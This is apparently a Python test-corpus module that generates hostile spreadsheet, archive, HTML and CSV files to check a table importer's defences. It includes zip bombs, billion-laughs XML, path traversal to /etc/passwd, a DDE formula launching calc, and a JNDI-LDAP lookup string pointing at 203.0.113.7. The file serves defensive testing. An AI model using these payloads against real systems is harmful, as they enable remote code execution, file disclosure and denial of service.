"""Files made to be clever: two kinds at once, things inside things, numbers nobody can mean, repeated a billion times."""

from __future__ import annotations

import random
import struct
import zipfile

from tests.hostile.cases import HEADER, ROWS, TABLE, Case, Outcome, Survives, gzipped, loads, refused, text, zipped
from tests.hostile.corpus_containers import OLE
from tests.hostile.corpus_workbooks import (
    MAIN,
    OFFICE,
    PACKAGE,
    book,
    parts,
    relations,
    rows_xml,
    sheet,
    workbook,
)

PLAIN = text()
B3 = '<c r="B3"><v>22</v></c>'
HTML_TABLE = "<html><table>" + "".join("<tr>" + "".join(f"<td>{v}</td>" for v in row) + "</tr>" for row in TABLE) + "</table>"  # fmt: skip
OPEN_DOCUMENT = "urn:oasis:names:tc:opendocument:xmlns"
TIGHT = ("compressed-too-tightly", "unpacks-too-large")


def instead(of: str, value: str) -> tuple[tuple[str, ...], ...]:
    return tuple(tuple(value if cell == of else cell for cell in row) for row in TABLE)


def with_cell(xml: str) -> bytes:
    return workbook(sheet(rows_xml().replace(B3, xml)))


def renamed(*names: str) -> bytes:
    return text((names, *ROWS)).encode()


def symbolic_link() -> bytes:
    entry = zipfile.ZipInfo("link.csv", (2024, 1, 1, 0, 0, 0))
    entry.create_system, entry.external_attr = 3, 0o120777 << 16
    content = zipped({"link.csv": b"/etc/passwd"})
    place = content.rfind(b"PK\x01\x02")
    return content[: place + 5] + b"\x03" + content[place + 6 : place + 38] + struct.pack("<I", entry.external_attr) + content[place + 42 :]  # fmt: skip


def wrapped() -> list[tuple[str, bytes, Outcome]]:
    plain, deep = PLAIN.encode(), PLAIN.encode()
    for _ in range(10):
        deep = gzipped(deep)
    return [
        ("a zip of a zip of a table", zipped({"b.zip": zipped({"t.csv": plain})}), refused("archive")),
        ("packed twice", gzipped(gzipped(plain)), loads()),
        ("packed ten times", deep, refused("damaged")),
        ("a packed workbook", gzipped(workbook()), loads()),
        ("a zip of a packed table", zipped({"t.csv.gz": gzipped(plain)}), loads()),
        ("a zip with an absolute path", zipped({"/etc/cron.d/x.csv": plain}), loads()),
        ("a zip with paths of another system", zipped({"..\\..\\x.csv": plain}), loads()),
        ("a zip with a link to a private file", symbolic_link(), Survives()),
        ("a zip with an empty byte in a name", zipped({"t.csv": plain}).replace(b"t.csv", b"t\0csv"), refused("archive")),
        ("a zip with a comment of 64 KB", zipped({"t.csv": plain})[:-2] + b"\xff\xff" + b"x" * 65535, loads()),
        ("a zip packed another way", zipped({"t.csv": plain}, method=zipfile.ZIP_LZMA), loads()),
        ("a zip packed in no known way", zipped({"t.csv": plain}).replace(b"\x08\x00", b"\x61\x00"), refused("damaged")),
        ("a bomb packed another way", zipped({"t.csv": b"1,2\n" * 8_000_000}, method=zipfile.ZIP_BZIP2), refused(*TIGHT)),
        ("a workbook packed another way", zipped(parts(), method=zipfile.ZIP_LZMA), loads()),
        ("a zip of nine hundred tables", zipped({f"{n}.csv": plain for n in range(900)}), refused("archive")),
        ("a bomb inside a zip", zipped({"b.xlsx": workbook(sheet(after=" " * 40_000_000))}), refused(*TIGHT)),
        ("a document, then a workbook", b"%PDF-1.7\n" + workbook(), refused("not-a-table")),
        ("a workbook, then a document", workbook() + b"%PDF-1.7\n%%EOF", loads()),
        ("a picture, then a workbook", b"GIF89a" + workbook(), refused("not-a-table")),
        ("a table, then a zip", plain + workbook(), refused("not-a-table")),
        ("an old workbook, then a new one", OLE + b"\0" * 504 + workbook(), refused("not-a-table")),
    ]  # fmt: skip


def references() -> list[tuple[str, bytes, Outcome]]:
    away = f'<?xml version="1.0"?><Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="r1" Type="{OFFICE}/worksheet" Target="http://203.0.113.7/s.xml" TargetMode="External"/></Relationships>'  # fmt: skip
    relation = "xl/_rels/workbook.xml.rels"
    command = '<c r="B3" t="str"><f>cmd|\'/c calc\'!A1</f><v>22</v></c>'
    linked = '<c r="B3"><f>[1]Sheet1!A1</f><v>22</v></c>'
    return [
        ("a sheet on another machine", zipped(parts() | {relation: away.encode()}), refused("damaged", "empty")),
        ("a sheet outside the workbook",
         zipped(parts() | {relation: relations().replace("worksheets/sheet1.xml", "../../../etc/passwd").encode()}),
         refused("damaged", "empty")),
        ("a link to a program", zipped(parts() | {"xl/externalLinks/externalLink1.xml":
         f'<externalLink {MAIN}><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'.encode()}), loads()),
        ("a formula that starts a program", with_cell(command), loads()),
        ("a formula that reads another workbook", with_cell(linked), loads()),
        ("a style sheet on another machine", workbook(sheet(head='<?xml-stylesheet href="http://203.0.113.7/x"?>')),
         loads()),
        ("a relation of the workbook to itself",
         zipped(parts() | {relation: relations().replace("worksheets/sheet1.xml", "workbook.xml").encode()}),
         refused("empty", "damaged")),
    ]  # fmt: skip


def laughs() -> list[tuple[str, bytes, Outcome]]:
    joke = b'?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>'
    places = ("xl/workbook.xml", "xl/sharedStrings.xml", "xl/styles.xml", "docProps/core.xml", "[Content_Types].xml",
              "_rels/.rels", "xl/comments1.xml", "xl/drawings/vmlDrawing1.vml")  # fmt: skip
    found: list[tuple[str, bytes, Outcome]] = []
    for place in places:
        part = parts().get(place, b"<?xml version='1.0'?><a/>")
        found.append((f"laughs in {place.replace('/', ' ')}", zipped(parts() | {place: part.replace(b"?>", joke, 1)}),
                      refused("unsafe-markup")))  # fmt: skip
    utf7 = b'<?xml version="1.0" encoding="utf-7"?>+ADwAIQ-DOCTYPE l+AD4-'
    ebcdic = sheet(head='<!DOCTYPE l [<!ENTITY a "a">]>').replace("?>", ' encoding="cp037"?>').encode("cp037")
    return [
        *found,
        ("laughs in utf-7", zipped(parts() | {"xl/worksheets/sheet1.xml": utf7}), refused("damaged")),
        ("laughs in ebcdic", zipped(parts() | {"xl/worksheets/sheet1.xml": ebcdic}), refused("damaged")),
    ]


def extents() -> list[tuple[str, bytes, Outcome]]:
    styled = "".join(f'<row r="{n}" s="1" customFormat="1"/>' for n in range(20, 400_000))
    corners = '<row r="1"><c r="XFD1"><v>1</v></c></row><row r="1048576"><c r="A1048576"><v>2</v></c></row>'
    beyond = '<row r="99999999"><c r="ZZZZZZ99999999"><v>1</v></c></row>'
    runs = "".join(f"<r><t>{n:x}</t></r>" for n in range(60_000))
    one_part = relations(3000).replace('Target="worksheets/sheet', 'Target="worksheets/sheet1.xml" x="')
    return [
        ("four hundred thousand empty rows with a format", workbook(sheet(rows_xml() + styled)), loads()),
        ("values in two opposite corners", workbook(sheet(corners)), Survives()),
        ("dimensions of negative rows", workbook(sheet(before='<dimension ref="A-5:ZZ-1"/>')), loads()),
        ("dimensions beyond all numbers", workbook(sheet(before='<dimension ref="A1:ZZZZZZZ99999999999999"/>')), loads()),
        ("a cell beyond the last one", workbook(sheet(rows_xml() + beyond)), loads("stray-cells")),
        ("everything merged", workbook(sheet(after='<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>')), loads()),
        ("merged cells that are none", workbook(sheet(
            after='<mergeCells><mergeCell ref="ZZZZ9:A1"/><mergeCell ref=""/></mergeCells>')), loads()),
        ("a format nobody defined", with_cell('<c r="B3" s="999999999"><v>22</v></c>'), loads()),
        ("a cell in many pieces", workbook(sharedStrings=f'<?xml version="1.0"?><sst {MAIN}><si>{runs}</si></sst>'), loads()),
        ("shared texts that claim to be billions", workbook(
            sharedStrings=f'<?xml version="1.0"?><sst {MAIN} count="4000000000" uniqueCount="4000000000"></sst>'), refused("too-much-memory")),
        ("three thousand sheets in one part", zipped(parts() | {
            "xl/workbook.xml": book(tuple(f"s{n}" for n in range(3000))).encode(),
            "xl/_rels/workbook.xml.rels": one_part.encode()}), refused("damaged")),
        ("two sheets of one name", zipped(parts() | {"xl/workbook.xml": book(("A", "A")).encode(),
            "xl/_rels/workbook.xml.rels": relations(2).encode(), "xl/worksheets/sheet2.xml": sheet().encode()}), loads()),
        ("a sheet without a name", zipped(parts() | {"xl/workbook.xml": book(("",)).encode()}), loads()),
        ("a hundred thousand attributes", workbook(sheet(rows_xml().replace(
            "<row ", "<row " + " ".join(f'a{n}="1"' for n in range(100_000)) + " ", 1))), Survives()),
    ]  # fmt: skip


def cells() -> list[tuple[str, bytes, Outcome]]:
    endless = rows_xml().replace("<v>22</v>", "<v>NaN</v>").replace("<v>23</v>", "<v>1e999</v>")
    return [
        ("numbers that are none", workbook(sheet(endless)), Survives()),
        ("a date with month thirteen", with_cell('<c r="B3" t="d"><v>2024-13-45T99:99:99</v></c>'), Survives()),
        ("a truth that is seven", with_cell('<c r="B3" t="b"><v>7</v></c>'), Survives()),
        ("a kind of cell nobody knows", with_cell('<c r="B3" t="zz"><v>22</v></c>'), Survives()),
        ("shared text number minus one", with_cell('<c r="B3" t="s"><v>-1</v></c>'), Survives()),
        ("an empty byte as an entity", workbook(sheet(rows_xml().replace("C004", "a&#0;b"))), refused("damaged")),
        ("half a sign as an entity", workbook(sheet(rows_xml().replace("C004", "a&#xD800;b"))), refused("damaged")),
        ("a comment inside a text", workbook(sheet(rows_xml().replace("C004", "C0<!-- x -->04"))), loads()),
        ("text that is marked as such", workbook(sheet(rows_xml().replace("C004", "<![CDATA[C004]]>"))), loads()),
    ]


def looping_container() -> bytes:
    """An OLE file whose chain of sectors runs in a circle."""
    head, folder = bytearray(512), bytearray(512)
    head[:8] = OLE
    struct.pack_into("<HHHHH", head, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<II", head, 44, 1, 1)
    struct.pack_into("<I", head, 56, 4096)
    struct.pack_into("<IIII", head, 60, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
    struct.pack_into("<109I", head, 76, 0, *([0xFFFFFFFF] * 108))
    for place, name, kind, child, start, size in (
        (0, "Root Entry", 5, 1, 0xFFFFFFFE, 0), (128, "Workbook", 2, 0xFFFFFFFF, 2, 1 << 40),
    ):  # fmt: skip
        letters = name.encode("utf-16-le")
        folder[place : place + len(letters)] = letters
        struct.pack_into("<H", folder, place + 64, len(letters) + 2)
        folder[place + 66], folder[place + 67] = kind, 1
        struct.pack_into("<III", folder, place + 68, 0xFFFFFFFF, 0xFFFFFFFF, child)
        struct.pack_into("<IQ", folder, place + 116, start, size)
    chain = struct.pack("<128I", 0xFFFFFFFD, 0xFFFFFFFE, 3, 2, *([0xFFFFFFFF] * 124))
    return bytes(head) + chain + bytes(folder) + b"\x09\x08\x10\x00\x00\x06\x05\x00" + bytes(1016)


def old() -> list[tuple[str, bytes, Outcome]]:
    noise = random.Random(7)
    many_sectors = bytearray(looping_container())
    struct.pack_into("<I", many_sectors, 44, 0x7FFFFFFF)
    wide_sectors = bytearray(looping_container())
    struct.pack_into("<H", wide_sectors, 30, 60)
    return [
        ("an old container in a circle", looping_container(), refused("damaged", "empty")),
        ("an old container of two billion sectors", bytes(many_sectors), refused("damaged", "empty")),
        ("an old container of endless sectors", bytes(wide_sectors), refused("damaged")),
        ("a workbook of 1995 without a sheet", b"\x09\x08\x08\x00\x00\x05\x05\x00\xbb\x0d\xcc\x07\x0a\0\0\0", refused("damaged")),
        ("noise after the start of an old container", OLE + noise.randbytes(50_000), refused("not-a-table", "damaged")),
        ("noise around the name of a sheet", OLE + noise.randbytes(3_000) + "Workbook".encode("utf-16-le") + noise.randbytes(9_000), refused("damaged")),
        ("noise that says it is locked", OLE + noise.randbytes(3_000) + "EncryptedPackage".encode("utf-16-le"), refused("password-needed")),
        ("noise after the start of a zip", b"PK\x03\x04" + noise.randbytes(50_000), refused("damaged", "archive")),
        ("noise after the start of a gzip", b"\x1f\x8b\x08\0" + noise.randbytes(9_000), refused("damaged")),
    ]  # fmt: skip


def open_table(more: str = "", head: str = "", change: tuple[str, str] = ("", "")) -> bytes:
    def row(values: tuple[str, ...]) -> str:
        inner = "".join(f'<table:table-cell office:value-type="string"><text:p>{v}</text:p></table:table-cell>' for v in values)  # fmt: skip
        return f"<table:table-row>{inner}</table:table-row>"

    rows = "".join(map(row, TABLE)).replace(*change) if change[0] else "".join(map(row, TABLE))
    spaces = " ".join(f'xmlns:{name}="{OPEN_DOCUMENT}:{name}:1.0"' for name in ("office", "text", "table"))
    content = (f'<?xml version="1.0"?>{head}<office:document-content {spaces}><office:body><office:spreadsheet>'
               f'<table:table table:name="a">{rows}{more}</table:table></office:spreadsheet></office:body>'
               "</office:document-content>")  # fmt: skip
    kind = "application/vnd.oasis.opendocument.spreadsheet"
    return zipped({"mimetype": kind.encode(), "content.xml": content.encode(), "META-INF/manifest.xml": b"<a/>"})


def open_documents() -> list[tuple[str, bytes, Outcome]]:
    def repeated(rows: str, columns: str = "1") -> str:
        return f'<table:table-row table:number-rows-repeated="{rows}"><table:table-cell table:number-columns-repeated="{columns}" office:value-type="float" office:value="1"/></table:table-row>'  # fmt: skip

    empty = '<table:table-row table:number-rows-repeated="1000000000"><table:table-cell table:number-columns-repeated="1000000000"/></table:table-row>'  # fmt: skip
    return [
        ("open document as it should be", open_table(), loads()),
        ("open document with a billion empty rows", open_table(empty), loads()),
        ("open document with a billion columns", open_table(repeated("1", "1000000000")), refused("too-many-columns")),
        ("open document with a billion rows", open_table(repeated("1000000000")), refused("too-much-memory", "too-many-rows")),
        ("open document with minus five rows", open_table(repeated("-5")), refused("damaged")),
        ("open document with rows beyond all numbers", open_table(repeated("9" * 23)), refused("damaged")),
        ("open document with a billion spaces", open_table(change=("C004", '<text:s text:c="1000000000"/>')), refused("too-much-memory")),
        ("open document with laughs", open_table(head='<!DOCTYPE a [<!ENTITY a "ha">]>'), refused("unsafe-markup")),
    ]  # fmt: skip


def pages() -> list[tuple[str, bytes, Outcome]]:
    """Web pages that never close what they open: each would be looked for to the end, again and again."""
    return [
        ("a page of a hundred thousand tables", b"<html>" + b"<table><tr><td>a<td>b</table>" * 100_000, refused("too-many-tables")),
        ("tables a hundred thousand deep", b"<table><tr><td>" * 100_000, refused("too-many-tables")),
        *((f"a page with {kind} never closed", HTML_TABLE.encode() + piece * 200_000, loads("html-table"))
          for kind, piece in {"comments": b"<!-- x ", "declarations": b"<![if x ", "marks": b"<a ", "ends": b"</",
                              "instructions": b"<?", "quotes": b'<td a="', "scripts": b"<script>"}.items()),
        ("a cell over a billion columns", b"<html><table><tr><td colspan=1000000000>a<td>b</tr><tr><td>1<td>2</table>", Survives()),
        ("a cell over a billion rows", b"<html><table><tr><td rowspan=1000000000>a<td>b</tr><tr><td>1<td>2</table>", Survives()),
        ("cells over everything", b"<html><table><tr>" + b"<td rowspan=65534 colspan=1000>a" * 1000, refused("too-many-columns")),
        ("a cell of half a million attributes", HTML_TABLE.replace("<td>", "<td " + " ".join(f"a{n}=1" for n in range(500_000)) + ">", 1).encode(), loads()),
        ("a page with pictures in cells", HTML_TABLE.replace("</td>", "<img src=http://203.0.113.7/x></td>").encode(), loads()),
    ]  # fmt: skip


def texts() -> list[tuple[str, bytes, Outcome]]:
    western = text((HEADER, ("M\u00fcller", "1", "2"))).encode() + "J\u00e9r\u00f4me,3,4\n".encode("cp1252")
    return [
        ("sixty megabytes in one line", b"x," * 30_000_000, refused("too-many-columns")),
        ("a quarter of a million quotes", b'"' * 250_001, Survives()),
        ("half a million commas", b"," * 500_000, refused("too-many-columns", "empty")),
        ("lines of one quote", b'"\n' * 100_000, Survives()),
        ("pairs of quotes without end", b'"' + b'""' * 300_000 + b'",1\n' + PLAIN.encode(), Survives()),
        ("a megabyte of empty bytes", b"\0" * 1_000_000, refused("empty")),
        ("a header of half a million signs", renamed("x" * 500_000, "Age", "Spend"), Survives()),
        ("nine hundred columns of one name", (",".join(["Age"] * 900) + "\n" + (",".join("1" * 900) + "\n") * 20).encode(),
         Survives()),
        ("names that differ by case", renamed("age", "AGE", "Age"), loads(cells=(("age", "AGE", "Age"), *ROWS))),
        ("names that look alike", renamed("Caf\u00e9", "Cafe\u0301", "CAFE"),
         loads(cells=(("Caf\u00e9", "Cafe\u0301", "CAFE"), *ROWS))),
        *((f"names of our own {'and '.join(names)}", renamed(*names), loads(cells=(names, *ROWS)))
          for names in (("c0", "segment", "customer_id"), ("__index__", "index", "segment_id"),
                        ("level_0", "_row", "source_row"), ("certainty", "reason", "runner_up_id"))),
        ("two encodings in one file", western + PLAIN.encode(), Survives()),
        ("utf-8 behind utf-16", PLAIN.encode("utf-16") + PLAIN.encode(), Survives()),
        ("signs that are no signs", PLAIN.replace("C004", "a\ufffe\uffff\U0001ffffb").encode(),
         loads(cells=instead("C004", "a\ufffe\uffff\U0001ffffb"))),
        ("fifty thousand accents on one letter", PLAIN.replace("C004", "C" + "\u0301" * 50_000).encode(), Survives()),
        ("commands for a terminal", PLAIN.replace("C004", "\x1b[31mC004").encode(), loads(cells=instead("C004", "\x1b[31mC004"))),
        ("commands for other programs", PLAIN.replace("C004", "${jndi:ldap://203.0.113.7/a}{0.__class__}%s%n").encode(),
         loads(cells=instead("C004", "${jndi:ldap://203.0.113.7/a}{0.__class__}%s%n"))),
        ("a number of ten thousand digits", PLAIN.replace("17.5", "9" * 10_000).encode(), loads(cells=instead("17.5", "9" * 10_000))),
        ("exponents of ten digits", PLAIN.replace("17.5", "1e9999999999").encode(), loads(cells=instead("17.5", "1e9999999999"))),
        ("dates without end", ("a,b\n" + ("1/" * 60 + ",2\n") * 3000).encode(), Survives()),
        ("spaces without end", ("a,b\n" + ("x" + " " * 5000 + "y,2\n") * 200).encode(), Survives()),
        ("a thousand lines that name a separator", b"sep=;\n" * 1000 + PLAIN.encode(), Survives()),
        ("every row one value longer", "\n".join(",".join(["1"] * n) for n in range(1, 150)).encode(), Survives()),
    ]  # fmt: skip


GROUPS = (wrapped, references, laughs, extents, cells, old, open_documents, pages, texts)


def cases() -> list[Case]:
    return [Case(kind, f"{kind}.dat", content, outcome) for group in GROUPS for kind, content, outcome in group()]
